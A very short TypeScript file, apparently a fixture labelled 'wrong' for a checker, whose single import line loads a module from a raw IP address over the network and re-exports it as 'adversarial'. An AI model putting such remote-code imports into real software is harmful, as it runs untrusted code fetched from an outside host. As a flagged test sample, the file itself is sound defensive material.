// [wrong] Imports a program from the network.
import { z } from 'https://192.0.2.77/z.js';

export const adversarial = (): unknown => z;
